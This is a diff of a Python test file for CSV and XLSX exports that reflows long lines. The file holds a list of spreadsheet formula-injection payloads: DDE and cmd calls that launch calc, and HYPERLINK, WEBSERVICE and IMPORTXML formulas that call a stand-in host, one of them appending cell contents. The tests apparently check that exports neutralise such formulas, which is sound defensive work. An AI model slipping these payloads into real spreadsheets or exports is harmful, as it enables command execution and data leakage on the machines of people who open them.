@@ -43,20 +43,25 @@ DOCUMENTS: list[dict[str, Any]] = [
     {"text": " spaces ", "other": float("inf")},
 ]
 PAYLOADS = [
-    "=1+1", "+1+1", "-1+1", "@SUM(1;1)", "=SUM(1,1)*cmd|' /C calc'!A0", '=HYPERLINK("http://x.invalid","y")',
-    "=WEBSERVICE(\"http://x.invalid\")", "\t=1+1", "\r=1+1", "=1+1\";=1+1", "＝1+1", "＋1+1", "－1+1", "＠SUM(1)",
-    "'=1+1", "=IMPORTXML(CONCAT(\"http://x.invalid\",A1),\"//a\")", "=DDE(\"cmd\";\"/C calc\";\"x\")",
+    "=1+1", "+1+1", "-1+1", "@SUM(1;1)", "=SUM(1,1)*cmd|' /C calc'!A0",
+    '=HYPERLINK("http://x.invalid","y")',
+    "=WEBSERVICE(\"http://x.invalid\")", "\t=1+1", "\r=1+1", "=1+1\";=1+1", "＝1+1", "＋1+1",
+    "－1+1", "＠SUM(1)",
+    "'=1+1", "=IMPORTXML(CONCAT(\"http://x.invalid\",A1),\"//a\")",
+    "=DDE(\"cmd\";\"/C calc\";\"x\")",
 ]  # fmt: skip
 
 
 def through_libreoffice(data: bytes, extension: str, folder: Path) -> list[list[str]]:
     source = folder / f"in.{extension}"
     source.write_bytes(data)
-    options = "44,34,76,1,,0,false,true,false"  # comma, quote, UTF-8, from row 1; texts as they are, cells as shown
+    # Comma, quote, UTF-8, from row 1; texts as they are, cells as shown.
+    options = "44,34,76,1,,0,false,true,false"
     command = [
         "soffice", f"-env:UserInstallation=file://{folder}/profile", "--headless",
         *(["--infilter=CSV:44,34,76,1,,0,false,false,false"] if extension == "csv" else []),
-        "--convert-to", f"csv:Text - txt - csv (StarCalc):{options}", "--outdir", str(folder / "out"), str(source),
+        "--convert-to", f"csv:Text - txt - csv (StarCalc):{options}", "--outdir",
+        str(folder / "out"), str(source),
     ]  # fmt: skip
     subprocess.run(command, check=True, capture_output=True, timeout=120)
     return csv_rows((folder / "out" / "in.csv").read_bytes())
@@ -81,7 +86,7 @@ def test_csv_and_xlsx_are_equal_cell_for_cell(tmp_path: Path) -> None:
 def test_both_files_of_one_query_are_equal_cell_for_cell(
     http: httpx.Client, users: Any, tmp_path: Path, query: str
 ) -> None:
-    """From the real database: joined by it, flattened by it, or, where a document is strange, neither."""
+    """From the real database: joined and flattened by it, or, for strange documents, neither."""
     texts = [
         "王小明",
         "=1+1",
